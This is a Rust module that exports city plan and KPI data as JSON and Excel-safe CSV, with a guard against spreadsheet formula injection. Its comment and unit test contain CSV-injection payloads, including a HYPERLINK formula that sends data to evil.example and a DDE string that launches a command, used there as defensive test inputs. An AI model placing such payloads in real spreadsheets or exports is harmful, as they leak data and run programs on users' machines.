//! The plan's data for reuse: `data.json` (everything) and `data.csv` (one
//! row per KPI and year). Formats are documented in docs/data-format.md.

use std::collections::{BTreeMap, BTreeSet};

use serde::Serialize;

use crate::assess::{
    round_to, CityAssessment, Disagreement, ItemAssessment, PlanAssessment, Summary, YearAssessment,
};
use crate::config::{Config, Scale};
use crate::content::reader::fmt_number;
use crate::model::{
    Action, Baseline, Category, City, Datum, Detail, Direction, Item, Method, Plan, Totals, Value,
    Year, YearMap,
};

pub const JSON_FORMAT: &str = "plansite-plan/1";

pub fn plan_json(
    config: &Config,
    city: &City,
    plan: &Plan,
    city_assessment: &CityAssessment,
    assessment: &PlanAssessment,
) -> String {
    let doc = PlanDoc {
        format: JSON_FORMAT,
        city: CityJson {
            slug: &city.slug,
            name: &city.name,
            prefecture: &city.prefecture,
            code: &city.code,
            summaries: &city_assessment.summaries,
        },
        plan: PlanJson {
            slug: &plan.slug,
            title: &plan.title,
            period: plan.period,
            report_year: plan.report_year,
            method: plan.method,
            direction: plan.direction,
            scale: config.scales.get(&plan.scale),
            category_levels: &plan.category_levels,
            categories: &plan.categories,
            source: &plan.source,
            notes: &plan.notes,
            body: &plan.body,
        },
        summary: &assessment.summary,
        category_summaries: &assessment.categories,
        items: plan
            .items
            .iter()
            .zip(&assessment.items)
            .map(|(i, a)| item_json(plan, i, a))
            .collect(),
    };
    // Compact: a plan's data runs to hundreds of kilobytes, and browsers and
    // tools format JSON for reading themselves.
    let mut s = serde_json::to_string(&doc).expect("JSON of plain data cannot fail");
    s.push('\n');
    s
}

// The document is serialised from borrowing structs, straight to text: a
// `serde_json::Value` tree of the whole plan cost as much as the rest of
// the export. Field order is the order of the output.

#[derive(Serialize)]
struct PlanDoc<'a> {
    format: &'static str,
    city: CityJson<'a>,
    plan: PlanJson<'a>,
    summary: &'a Summary,
    category_summaries: &'a BTreeMap<String, Summary>,
    items: Vec<ItemJson<'a>>,
}

#[derive(Serialize)]
struct CityJson<'a> {
    slug: &'a str,
    name: &'a str,
    prefecture: &'a Option<String>,
    code: &'a Option<String>,
    summaries: &'a [Summary],
}

#[derive(Serialize)]
struct PlanJson<'a> {
    slug: &'a str,
    title: &'a str,
    period: [Year; 2],
    report_year: Year,
    method: Method,
    direction: Direction,
    scale: Option<&'a Scale>,
    category_levels: &'a [String],
    categories: &'a [Category],
    source: &'a Option<String>,
    notes: &'a [String],
    body: &'a str,
}

/// An item as the model has it (every field of `model::Item`, checked by a
/// test), with its category path and its assessment.
#[derive(Serialize)]
struct ItemJson<'a> {
    slug: &'a str,
    number: &'a str,
    title: &'a str,
    category: &'a Option<String>,
    departments: &'a [String],
    status: &'a YearMap<String>,
    tags: &'a [String],
    details: &'a [Detail],
    actions: &'a [Action],
    kpis: Vec<KpiJson<'a>>,
    notes: &'a [String],
    body: &'a str,
    category_path: Vec<&'a str>,
    assessment: ItemAssessmentJson<'a>,
}

/// A KPI as the model has it, with the effective method and direction (so
/// that consumers need not apply defaults) and its assessment.
#[derive(Serialize)]
struct KpiJson<'a> {
    name: &'a str,
    unit: &'a Option<String>,
    direction: Direction,
    method: Method,
    baseline: &'a Option<Baseline>,
    targets: &'a YearMap<Datum>,
    actuals: &'a YearMap<Datum>,
    totals: &'a Option<Totals>,
    status: &'a YearMap<String>,
    #[serde(serialize_with = "crate::model::serialize_opt_number")]
    reported_rate: &'a Option<f64>,
    notes: &'a [String],
    assessment: KpiAssessmentJson<'a>,
}

#[derive(Serialize)]
struct KpiAssessmentJson<'a> {
    years: &'a [YearAssessment],
    disagreements: &'a [Disagreement],
}

#[derive(Serialize)]
struct ItemAssessmentJson<'a> {
    year: Year,
    reported: &'a Option<String>,
    computed: &'a Option<String>,
    disagrees: bool,
}

fn item_json<'a>(plan: &'a Plan, item: &'a Item, assessment: &'a ItemAssessment) -> ItemJson<'a> {
    let category_path = item
        .category
        .as_deref()
        .map(|id| {
            plan.category_path(id)
                .iter()
                .map(|c| c.id.as_str())
                .collect()
        })
        .unwrap_or_default();
    ItemJson {
        slug: &item.slug,
        number: &item.number,
        title: &item.title,
        category: &item.category,
        departments: &item.departments,
        status: &item.status,
        tags: &item.tags,
        details: &item.details,
        actions: &item.actions,
        kpis: item
            .kpis
            .iter()
            .zip(&assessment.kpis)
            .map(|(k, a)| KpiJson {
                name: &k.name,
                unit: &k.unit,
                direction: k.direction.unwrap_or(plan.direction),
                method: k.method.unwrap_or(plan.method),
                baseline: &k.baseline,
                targets: &k.targets,
                actuals: &k.actuals,
                totals: &k.totals,
                status: &k.status,
                reported_rate: &k.reported_rate,
                notes: &k.notes,
                assessment: KpiAssessmentJson {
                    years: &a.years,
                    disagreements: &a.disagreements,
                },
            })
            .collect(),
        notes: &item.notes,
        body: &item.body,
        category_path,
        assessment: ItemAssessmentJson {
            year: plan.report_year,
            reported: &assessment.reported,
            computed: &assessment.computed,
            disagrees: assessment.disagrees,
        },
    }
}

const CSV_HEADER: [&str; 25] = [
    "city_code",
    "city",
    "plan",
    "item_number",
    "item_title",
    "category_id",
    "category",
    "departments",
    "kpi",
    "unit",
    "direction",
    "method",
    "year",
    "baseline_year",
    "baseline",
    "target",
    "target_note",
    "actual",
    "actual_note",
    "total_target",
    "total_actual",
    "reported_status",
    "reported_rate",
    "computed_rate",
    "computed_status",
];

/// Columns of numbers (or of a figure written as text, guarded by [`plain`]);
/// every other column is text and passes through [`guard`].
const CSV_NUMBERS: [&str; 9] = [
    "year",
    "baseline_year",
    "baseline",
    "target",
    "actual",
    "total_target",
    "total_actual",
    "reported_rate",
    "computed_rate",
];

/// UTF-8 with BOM: Excel on Windows reads BOM-less CSV as Shift_JIS and garbles Japanese.
pub fn plan_csv<'a>(city: &City, plan: &'a Plan, assessment: &PlanAssessment) -> Vec<u8> {
    let text_column = CSV_HEADER.map(|h| !CSV_NUMBERS.contains(&h));
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(CSV_HEADER)
        .expect("writing to memory cannot fail");
    for (item, ia) in plan.items.iter().zip(&assessment.items) {
        let departments = item.departments.join("、");
        let (cat_id, cat_title) = match item.category.as_deref() {
            Some(id) => (
                id.to_string(),
                plan.category_path(id)
                    .iter()
                    .map(|c| c.title.as_str())
                    .collect::<Vec<_>>()
                    .join(" › "),
            ),
            None => (String::new(), String::new()),
        };
        for (kpi, ka) in item.kpis.iter().zip(&ia.kpis) {
            let mut years: BTreeSet<Option<Year>> = kpi
                .targets
                .keys()
                .chain(kpi.actuals.keys())
                .chain(kpi.status.keys())
                .map(|y| Some(*y))
                .collect();
            if years.is_empty() {
                // A KPI without yearly figures still gets its row, so nothing is lost.
                years.insert(None);
            }
            let direction = match kpi.direction.unwrap_or(plan.direction) {
                Direction::Higher => "higher",
                Direction::Lower => "lower",
            };
            let method = match kpi.method.unwrap_or(plan.method) {
                Method::Ratio => "ratio",
                Method::Progress => "progress",
                Method::Cumulative => "cumulative",
            };
            // The same on every row of the KPI: made once.
            let baseline_year = kpi
                .baseline
                .as_ref()
                .and_then(|b| b.year)
                .map(|y| y.to_string())
                .unwrap_or_default();
            let baseline = kpi
                .baseline
                .as_ref()
                .map(|b| plain(&b.value))
                .unwrap_or_default();
            let total_target = total(kpi.totals.as_ref().and_then(|t| t.target.as_ref()));
            let total_actual = total(kpi.totals.as_ref().and_then(|t| t.actual.as_ref()));
            let reported_rate = kpi.reported_rate.map(fmt_number).unwrap_or_default();
            for year in years {
                let get =
                    |m: &'a std::collections::BTreeMap<Year, Datum>| year.and_then(|y| m.get(&y));
                let target = get(&kpi.targets);
                let assessed = year.and_then(|y| ka.years.iter().find(|a| a.year == y));
                let actual = get(&kpi.actuals);
                let year_text = year.map(|y| y.to_string()).unwrap_or_default();
                let reported_status = year.and_then(|y| kpi.status.get(&y));
                let record: [&str; 25] = [
                    opt(&city.code),
                    &city.name,
                    &plan.title,
                    &item.number,
                    &item.title,
                    &cat_id,
                    &cat_title,
                    &departments,
                    &kpi.name,
                    opt(&kpi.unit),
                    direction,
                    method,
                    &year_text,
                    &baseline_year,
                    &baseline,
                    &target.map(|d| plain(&d.value)).unwrap_or_default(),
                    target.map_or("", |d| opt(&d.note)),
                    &actual.map(|d| plain(&d.value)).unwrap_or_default(),
                    actual.map_or("", |d| opt(&d.note)),
                    &total_target,
                    &total_actual,
                    reported_status.map_or("", String::as_str),
                    &reported_rate,
                    &assessed
                        .and_then(|a| a.rate.as_ref())
                        .map(|r| fmt_number(round_to(r.percent, 2)))
                        .unwrap_or_default(),
                    assessed
                        .and_then(|a| a.computed.as_deref())
                        .unwrap_or_default(),
                ];
                let guarded = std::array::from_fn::<_, 25, _>(|i| match text_column[i] {
                    true => guard(record[i]),
                    false => std::borrow::Cow::Borrowed(record[i]),
                });
                w.write_record(guarded.iter().map(|f| f.as_bytes()))
                    .expect("writing to memory cannot fail");
            }
        }
    }
    w.into_inner().expect("writing to memory cannot fail")
}

fn opt(s: &Option<String>) -> &str {
    s.as_deref().unwrap_or_default()
}

fn total(d: Option<&Datum>) -> String {
    d.map(|d| plain(&d.value)).unwrap_or_default()
}

/// Numbers without separators so that spreadsheets read them as numbers.
fn plain(v: &Value) -> String {
    match v {
        Value::Number(n) => fmt_number(*n),
        Value::Text(t) => guard(t).into_owned(),
    }
}

/// Text as a spreadsheet will show it, never run it: a cell that starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
/// and LibreOffice (`=HYPERLINK(…)` sends data away, `@SUM(…)|cmd` starts
/// programs), so it gets a leading apostrophe, the OWASP rule for CSV.
/// Numbers are written by [`plain`] and never pass here.
#[inline]
pub fn guard(text: &str) -> std::borrow::Cow<'_, str> {
    if matches!(
        text.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    ) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_neutralised() {
        assert_eq!(
            guard("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
        );
        assert_eq!(
            guard("@SUM(1+1)*cmd|' /C calc'!A0"),
            "'@SUM(1+1)*cmd|' /C calc'!A0"
        );
        for s in ["+1", "-", "\tx", "\rx"] {
            assert_eq!(guard(s), format!("'{s}"));
        }
        assert_eq!(guard("総務課"), "総務課");
        assert_eq!(
            plain(&Value::Number(-30095.0)),
            "-30095",
            "numbers stay numbers"
        );
        assert_eq!(plain(&Value::Text("-".into())), "'-");
    }

    /// data.json promises every field of an item and its KPIs; the export
    /// structs list them by hand, so a field added to the model must be
    /// added there too.
    #[test]
    fn items_and_kpis_carry_every_field_of_the_model() {
        let loaded = crate::load(std::path::Path::new(env!("CARGO_MANIFEST_DIR")));
        let keys = |v: &serde_json::Value| -> BTreeSet<String> {
            v.as_object().unwrap().keys().cloned().collect()
        };
        let mut items = 0;
        for (ci, city) in loaded.site.cities.iter().enumerate() {
            for (pi, plan) in city.plans.iter().enumerate() {
                let pa = loaded.assessment.plan(ci, pi);
                for (item, ia) in plan.items.iter().zip(&pa.items) {
                    let model = serde_json::to_value(item).unwrap();
                    let export = serde_json::to_value(item_json(plan, item, ia)).unwrap();
                    let missing: Vec<_> =
                        keys(&model).difference(&keys(&export)).cloned().collect();
                    assert!(missing.is_empty(), "data.json items lack {missing:?}");
                    for (m, e) in model["kpis"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .zip(export["kpis"].as_array().unwrap())
                    {
                        let missing: Vec<_> = keys(m).difference(&keys(e)).cloned().collect();
                        assert!(missing.is_empty(), "data.json KPIs lack {missing:?}");
                    }
                    items += 1;
                }
            }
        }
        assert!(items > 200, "the demo has all its items ({items})");
    }
}
